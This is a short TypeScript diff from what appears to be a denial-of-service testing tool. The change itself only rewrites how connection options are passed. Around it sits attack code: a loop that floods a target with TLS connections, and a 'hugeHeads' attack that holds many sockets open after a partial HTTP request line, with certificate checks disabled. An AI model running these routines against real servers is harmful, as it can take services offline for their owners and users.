@@ -12,7 +12,7 @@ async function sendAgainAndAgain(battle: Battle, perSecond: number, bytes: Buffe
   const localAddress = battle.localAddresses[0] ?? "";
   while (!battle.isOver()) {
     const { address: host, port } = battle;
-    const socket = connectTls({ host, port, localAddress, rejectUnauthorized: false });
+    const socket = connectTls({ ...{ host, port, localAddress }, rejectUnauthorized: false });
     socket.on("error", () => failed++);
     socket.once("secureConnect", () => {
       sent++;
@@ -44,7 +44,7 @@ export const hugeHeads: Attack = {
     const { done, failed } = await keepUp(battle, 100, async (index) => {
       const { address: host, port, localAddresses } = battle;
       const localAddress = localAddresses[index % localAddresses.length] ?? "";
-      const socket = connectTls({ host, port, localAddress, rejectUnauthorized: false });
+      const socket = connectTls({ ...{ host, port, localAddress }, rejectUnauthorized: false });
       socket.on("error", () => {});
       socket.resume().once("secureConnect", () => socket.write("GET / HTTP/1.1\r\n"));
       let at = 0;
